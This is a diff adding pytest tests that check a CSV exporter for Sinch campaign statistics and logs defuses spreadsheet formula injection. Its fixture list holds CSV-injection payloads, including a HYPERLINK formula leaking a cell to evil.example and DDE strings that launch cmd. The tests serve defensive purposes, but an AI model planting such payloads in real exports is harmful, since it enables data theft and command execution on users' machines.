@@ -609,3 +609,43 @@ def test_unknown_export_format(file_format: str) -> None:
         SinchValidationError, match=r"^file_format: must be one of \('jsonl', 'csv', 'parquet'\), got"
     ):
         check_export_format(file_format)
+
+
+# --- CSV injection -----------------------------------------------------------------------------------
+#: What a visitor, a contact list or a note can put in a text cell, and what the CSV cell holds.
+FORMULAS = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("=1+1", "'=1+1"),
+    # Numbers are not formulas: phone numbers and negative numbers keep their text.
+    ("+46701234567", "+46701234567"),
+    ("+1 (555) 010-0199", "+1 (555) 010-0199"),
+    ("-5", "-5"),
+    ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)"),
+    ("a=b", "a=b"),
+]
+
+
+@pytest.mark.parametrize(("value", "cell"), FORMULAS, ids=[repr(v)[:24] for v, _ in FORMULAS])
+def test_csv_text_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path, value: str, cell: str) -> None:
+    record = {**STATS[0], "user_agent": value, "message": value, "url": value, "msisdn": "+46701234567"}
+    target = write(tmp_path, "csv", CAMPAIGN_STATS, [record])
+    with target.open(encoding="utf-8", newline="") as fh:
+        [row] = list(csv.DictReader(fh))
+    assert (row["user_agent"], row["message"], row["url"]) == (cell, cell, cell)
+    assert row["msisdn"] == "+46701234567"
+    # JSON lines (and Parquet) keep the API's value, for loaders.
+    jsonl = write(tmp_path, "jsonl", CAMPAIGN_STATS, [record])
+    assert json.loads(jsonl.read_text(encoding="utf-8"))["user_agent"] == value
+
+
+def test_csv_log_cells_are_defused_too(tmp_path: Path) -> None:
+    event = {**EVENTS[0], "type": "=1+1", "contact": {**EVENTS[0]["contact"], "code": "@x"}}
+    target = write(tmp_path, "csv", CAMPAIGN_LOG, [event])
+    with target.open(encoding="utf-8", newline="") as fh:
+        [row] = list(csv.DictReader(fh))
+    assert (row["type"], row["code"]) == ("'=1+1", "'@x")
